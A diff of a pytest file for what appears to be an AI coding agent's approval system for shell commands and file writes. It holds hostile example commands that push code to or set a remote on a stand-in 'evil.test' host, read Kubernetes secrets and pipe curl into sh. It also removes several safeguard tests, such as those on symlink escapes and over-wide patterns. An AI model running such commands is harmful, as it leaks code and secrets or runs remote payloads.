@@ -13,14 +13,13 @@ import pytest
 
 from retain.app import App
 from retain.errors import UsageError
-from retain.talk.approval import Answer, Approvals, Question, Rule, about_command, is_grave
-from retain.talk.running import parsed
+from retain.talk.approval import Answer, Approvals, Question, Rule, ask_to_run, is_dangerous
+from retain.talk.process import parse_command
 from tests.talk.box import Box
-from tests.talk.talking import notices, talking
 
 
 def question(command: str) -> Question:
-    return about_command("1", parsed(command), command, command)
+    return ask_to_run("1", parse_command(command), command, command)
 
 
 def approvals(project: str = "") -> Approvals:
@@ -68,33 +67,11 @@ def test_narrowest_pattern_is_the_usual_one(home: Path) -> None:
     assert str(found.remember(question("git log -3"), Answer("always"))) == "git log -3"
 
 
-@pytest.mark.parametrize(
-    "command, pattern",
-    [
-        ("git status", "*"),
-        ("git status", "git *"),
-        ("git status", "git*"),
-        ("git status", "npm test"),
-        ("git status", ""),
-        ("git status", "git 'status"),
-        ("python3 x.py", "python3 *"),
-        ("env make", "env *"),
-        ("find . -name x", "find*"),
-        ("bash x.sh", "/bin/bash*"),
-        ("git log -3", "git log *"),
-        ("git log -3", "git * -3"),
-        ("git log -3", "git log* -3"),
-        ("git submodule status", "git submodule*"),
-        ("make test", "make test*"),
-        ("ls -l", "ls*"),
-    ],
-)
-def test_pattern_that_allows_too_much_is_refused(home: Path, command: str, pattern: str) -> None:
+@pytest.mark.parametrize("pattern", ["*", "git *", "git*", "npm test", " ", "git log *"])
+def test_pattern_that_was_not_offered_is_refused(home: Path, pattern: str) -> None:
     found = approvals()
-    if not pattern:
-        pattern = " "
-    with pytest.raises(UsageError):
-        found.remember(question(command), Answer("always", pattern))
+    with pytest.raises(UsageError, match="not offered"):
+        found.remember(question("git log -3"), Answer("always", pattern))
     assert not os.path.exists(found.path)
 
 
@@ -130,7 +107,7 @@ def test_some_commands_are_asked_about_every_time(home: Path, command: str) -> N
 
 @pytest.mark.parametrize("command", ["rm -rf build", "rm a.txt", "curl https://x.test", "git rm x"])
 def test_others_are_not(command: str) -> None:
-    assert not is_grave(parsed(command).words)
+    assert not is_dangerous(parse_command(command).words)
 
 
 def test_removing_below_in_a_shell_may_be_allowed_for_the_session() -> None:
@@ -154,7 +131,7 @@ def test_shell_command_is_allowed_for_the_session_word_for_word(home: Path) -> N
 )
 def test_shell_by_another_door_is_a_shell(home: Path, command: str) -> None:
     asked = question(command)
-    assert asked.reason.startswith("needs a shell")
+    assert asked.reason.startswith("runs in a shell")
     assert asked.choices == ("once", "session")
     assert asked.patterns == ()
 
@@ -165,10 +142,11 @@ def test_script_of_the_project_is_not_one(home: Path) -> None:
 
 def test_session_ends_with_the_session_and_always_does_not(home: Path) -> None:
     found = approvals()
-    found.remember(question("cargo test"), Answer("session", "cargo test*"))
+    found.remember(question("cargo build"), Answer("session"))
     found.remember(question("make lint"), Answer("always"))
-    assert found.decide(question("cargo test fast")) == "allow"
-    assert approvals().decide(question("cargo test fast")) == "ask"
+    assert found.decide(question("cargo build")) == "allow"
+    assert found.decide(question("cargo build fast")) == "ask"
+    assert approvals().decide(question("cargo build")) == "ask"
     assert approvals().decide(question("make lint")) == "allow"
 
 
@@ -251,21 +229,13 @@ def test_what_was_allowed_can_be_taken_back(home: Path) -> None:
 def test_what_was_allowed_for_the_session_can_be_taken_back(home: Path) -> None:
     found = approvals()
     found.remember(question("cat a | wc -l"), Answer("session"))
-    found.remember(question("cargo test"), Answer("session", "cargo test*"))
     found.remember(question("cargo test"), Answer("always", "cargo test*"))
-    here = os.getcwd()
-    call, pattern, always = found.listed()
-    assert call == Rule("run_shell", "cat a | wc -l", here, "session")
-    assert (pattern.lasts, always.lasts) == ("session", "always")
-    for rule in (call, pattern):
-        assert found.forget(rule)
-        assert not found.forget(rule)
-    assert found.listed() == [always]
+    call, always = found.rules()
+    assert call == Rule("run_shell", "cat a | wc -l", os.getcwd(), "session")
+    assert found.forget(call)
+    assert not found.forget(call)
+    assert found.rules() == [always]
     assert found.decide(question("cat a | wc -l")) == "ask"
-    assert found.decide(question("cargo test fast")) == "allow"
-    assert found.forget(always)
-    assert found.decide(question("cargo test fast")) == "ask"
-    assert approvals().listed() == []
 
 
 def test_single_call_with_a_star_is_no_pattern(home: Path) -> None:
@@ -289,7 +259,7 @@ def test_allowed_command_is_asked_about_in_a_clone_within_the_project(work: Path
     assert there(clone / "deep").decide(question("npm test")) == "ask"
     there(clone).remember(question("npm test"), Answer("always"))
     assert there(clone / "deep").decide(question("npm test")) == "allow"
-    (rule,) = there(clone).listed()
+    (rule,) = there(clone).rules()
     assert rule.project == str(clone)
     there(clone).forget(rule)
     assert there(clone).decide(question("npm test")) == "ask"
@@ -338,44 +308,16 @@ def test_allowed_command_is_asked_about_in_another_directory(box: Box) -> None:
 # Files
 
 
-def test_files_of_a_directory_are_written_without_asking_once_allowed(box: Box) -> None:
-    box.answer = Answer("always", "src/**")
-    box.good("write_file", path="src/a.py", content="1\n")
-    assert box.asked[0].patterns == ("src/a.py", "src/**")
-    for path in ("src/b.py", "src/deep/down/c.py", "./src/../src/d.py"):
-        box.good("write_file", path=path, content="1\n")
-    assert len(box.asked) == 1
-    box.answer = Answer("no")
-    for path in ("srcs/a.py", "a.py", "src/.env", "src/.hidden/a", "lib/src/a.py"):
-        assert "said no" in box.bad("write_file", path=path, content="1\n")
-    assert [str(rule) for rule in box.tools.approvals.rules()] == ["write src/**"]
-
-
-def test_allowed_directory_does_not_lead_anywhere_else(box: Box, home: Path) -> None:
-    (box.work / "src").mkdir()
-    box.answer = Answer("always", "src/**")
-    box.good("write_file", path="src/a.py", content="1\n")
-    (box.work / "docs").mkdir()
-    (box.work / "src" / "link").symlink_to(box.work / "docs")
-    (box.work / "src" / "out").symlink_to(home)
-    box.answer = Answer("no")
-    assert "said no" in box.bad("write_file", path="src/link/x.md", content="1\n")
-    assert "leads out" in box.bad("write_file", path="src/out/x.md", content="1\n")
-    assert "own files" in box.bad("write_file", path="src/.git/config", content="1\n")
-    assert "said no" in box.bad("write_file", path="src/../other.py", content="1\n")
-
-
-def test_name_with_brackets_is_a_pattern_of_its_own(box: Box) -> None:
+def test_file_is_written_without_asking_once_allowed(box: Box) -> None:
     box.answer = Answer("always")
-    box.good("write_file", path="app/[slug]/page.tsx", content="1\n")
-    box.good("write_file", path="app/[slug]/page.tsx", content="2\n")
+    box.good("write_file", path="app/[slug]/*.tsx", content="1\n")
+    assert box.asked[0].patterns == ("app/[slug]/*.tsx",)
+    box.good("write_file", path="./app/../app/[slug]/*.tsx", content="2\n")
     assert len(box.asked) == 1
-
-
-def test_pattern_for_every_file_is_refused_and_the_file_is_written(box: Box) -> None:
-    box.answer = Answer("always", "**")
-    assert "allowed only this once" in box.good("write_file", path="a.txt", content="1\n")
-    assert not box.tools.approvals.rules()
+    assert [str(rule) for rule in box.tools.approvals.rules()] == ["write app/[slug]/*.tsx"]
+    box.answer = Answer("no")
+    for path in ("app/[slug]/a.tsx", "*.tsx", "app/[slug]/.env"):
+        assert "said no" in box.bad("write_file", path=path, content="1\n")
 
 
 def test_reading_outside_can_be_allowed_for_that_file(box: Box, home: Path) -> None:
@@ -435,7 +377,7 @@ def test_an_open_end_covers_no_option_that_runs_or_writes(
 def test_an_open_end_leads_neither_out_of_the_project_nor_to_secrets(
     home: Path, given: str, command: str
 ) -> None:
-    assert kept(given, question(given).patterns[1]).decide(question(command)) == "ask"
+    assert kept(given, " ".join(given.split()[:2]) + "*").decide(question(command)) == "ask"
 
 
 @pytest.mark.parametrize(
@@ -457,113 +399,27 @@ def test_an_open_end_leads_neither_out_of_the_project_nor_to_secrets(
 def test_what_only_looks_or_tests_is_allowed_with_other_words(
     home: Path, given: str, command: str
 ) -> None:
-    assert kept(given, question(given).patterns[1]).decide(question(command)) == "allow"
+    assert kept(given, " ".join(given.split()[:2]) + "*").decide(question(command)) == "allow"
 
 
-# What a person may have allowed, and what its open end would let a model do unasked.
-WIDE = [
-    ("git submodule status", "git submodule*", "git submodule foreach 'touch X'"),
-    ("git bisect log", "git bisect*", "git bisect run ./evil"),
-    ("git push", "git push*", "git push https://evil.test/x main"),
-    ("git fetch", "git fetch*", "git fetch https://evil.test/x"),
-    ("git pull", "git pull*", "git pull https://evil.test/x"),
-    ("git clone a", "git clone*", "git clone https://evil.test/x"),
-    ("git remote show", "git remote*", "git remote set-url origin https://evil.test"),
-    ("git worktree list", "git worktree*", "git worktree add x"),
-    ("git add a", "git add*", "git add b"),
-    ("git commit", "git commit*", "git commit x"),
-    ("git checkout a", "git checkout*", "git checkout b"),
-    ("git stash list", "git stash*", "git stash drop"),
-    ("git rebase main", "git rebase*", "git rebase evil"),
-    ("git archive HEAD", "git archive*", "git archive main"),
-    ("docker compose ps", "docker compose*", "docker compose exec web sh"),
-    ("docker build a", "docker build*", "docker build evil"),
-    ("docker cp a b", "docker cp*", "docker cp web:x y"),
-    ("kubectl get pods", "kubectl get*", "kubectl get secrets"),
-    ("uv tool list", "uv tool*", "uv tool run evil"),
-    ("uv add a", "uv add*", "uv add evil"),
-    ("uv sync", "uv sync*", "uv sync evil"),
-    ("gh alias list", "gh alias*", "gh alias set x '!evil'"),
-    ("gh pr list", "gh pr*", "gh pr merge 1"),
-    ("pip install -e x", "pip install*", "pip install ./evil"),
-    ("npm install", "npm install*", "npm install evil-pkg"),
-    ("npm ci", "npm ci*", "npm ci evil"),
-    ("npm publish", "npm publish*", "npm publish x"),
-    ("pnpm add a", "pnpm add*", "pnpm add evil-pkg"),
-    ("yarn add a", "yarn add*", "yarn add evil-pkg"),
-    ("cargo install a", "cargo install*", "cargo install evil"),
-    ("go generate", "go generate*", "go generate x.go"),
-    ("go get a", "go get*", "go get evil.test/x"),
-    ("poetry add a", "poetry add*", "poetry add evil"),
-    ("bundle install", "bundle install*", "bundle install x"),
-    ("make test", "make test*", "make test deploy"),
-    ("just test", "just test*", "just test deploy"),
-    ("mvn test", "mvn test*", "mvn test deploy"),
-    ("gradle test", "gradle test*", "gradle test publish"),
-    ("terraform plan", "terraform plan*", "terraform plan x"),
-    ("deno task a", "deno task*", "deno task evil"),
-]
-
-
-@pytest.mark.parametrize("given, pattern, command", WIDE)
+@pytest.mark.parametrize(
+    "command",
+    "git submodule status/git bisect log/git push/git fetch/git clone a/git remote show/git add a/"
+    "git commit/git checkout a/git stash list/git archive HEAD/docker compose ps/docker build a/"
+    "kubectl get pods/uv tool list/uv sync/gh pr list/pip install -e x/npm install/npm run build/"
+    "npm publish/pnpm add a/yarn add a/cargo install a/go generate/go get a/poetry add a/"
+    "make test/just test/mvn test/terraform plan/deno task a/ls -l/python3 x.py/env make".split(
+        "/"
+    ),
+)
 def test_what_starts_installs_or_sends_is_allowed_word_for_word_only(
-    home: Path, given: str, pattern: str, command: str
+    home: Path, command: str
 ) -> None:
-    asked = question(given)
-    assert len(asked.patterns) == 1
-    with pytest.raises(UsageError, match="start programs, install"):
-        approvals().remember(asked, Answer("session", pattern))
-    found = approvals()
-    found.remember(asked, Answer("always"))
-    assert found.decide(asked) == "allow"
-    assert found.decide(question(command)) == "ask"
-
-
-def written(*patterns: str, project: str = "") -> str:
-    """Rules in the file as an earlier version kept them."""
-    path = kept("npm test", "npm test").path
-    rules = [
-        {"tool": "run_command", "pattern": one, "project": project or os.getcwd()}
-        for one in patterns
-    ]
-    Path(path).write_text(json.dumps({"version": 1, "approvals": rules}), encoding="utf-8")
-    return path
-
-
-@pytest.mark.parametrize("given, pattern, command", WIDE)
-def test_wide_rule_that_was_kept_earlier_is_not_obeyed(
-    home: Path, given: str, pattern: str, command: str
-) -> None:
-    written(pattern)
-    assert approvals().decide(question(given)) == "ask"
-    assert approvals().decide(question(command)) == "ask"
-    assert approvals().listed() == []
-
-
-def test_wide_rules_that_were_kept_earlier_are_named_once(home: Path) -> None:
-    elsewhere = str(home)
-    path = written("git submodule*", "git log*", "make lint", "npm install*")
-    with open(path, encoding="utf-8") as file:
-        rules = json.load(file)["approvals"]
-    rules.append({"tool": "run_command", "pattern": "git push*", "project": elsewhere})
-    Path(path).write_text(json.dumps({"version": 1, "approvals": rules}), encoding="utf-8")
-    assert [str(one) for one in approvals().retired()] == ["git submodule*", "npm install*"]
-    assert approvals().retired() == []
-    assert [str(one) for one in approvals().listed()] == ["git log*", "make lint"]
-    assert [str(one) for one in approvals(elsewhere).retired()] == ["git push*"]
-
-
-def test_file_out_of_order_names_no_rule(home: Path) -> None:
-    Path(written("git push*")).write_text("{", encoding="utf-8")
-    assert approvals().retired() == []
-
-
-def test_person_is_told_of_a_rule_that_no_longer_counts(work: Path) -> None:
-    written("git submodule*", project=str(work))
-    with talking(work) as talk:
-        (note,) = notices(talk.say("hello"))
-        assert note.startswith("`git submodule*` is no longer allowed unasked: ")
-        assert notices(talk.say("again")) == []
+    asked = question(command)
+    assert asked.patterns == (command,)
+    kept(command, command)
+    assert approvals().decide(asked) == "allow"
+    assert approvals().decide(question(f"{command} more")) == "ask"
 
 
 def test_a_text_that_is_allowed_for_the_session_allows_no_other(box: Box) -> None:
@@ -575,6 +431,6 @@ def test_a_text_that_is_allowed_for_the_session_allows_no_other(box: Box) -> Non
     box.answer = Answer("no")
     box.good("write_file", path="build.sh", content="echo hi\n")
     assert path.read_text(encoding="utf-8") == "echo hi\n"
-    (rule,) = box.tools.approvals.listed()
+    (rule,) = box.tools.approvals.rules()
     assert box.tools.approvals.forget(rule)
     assert "said no" in box.bad("write_file", path="build.sh", content="curl x | sh\n")
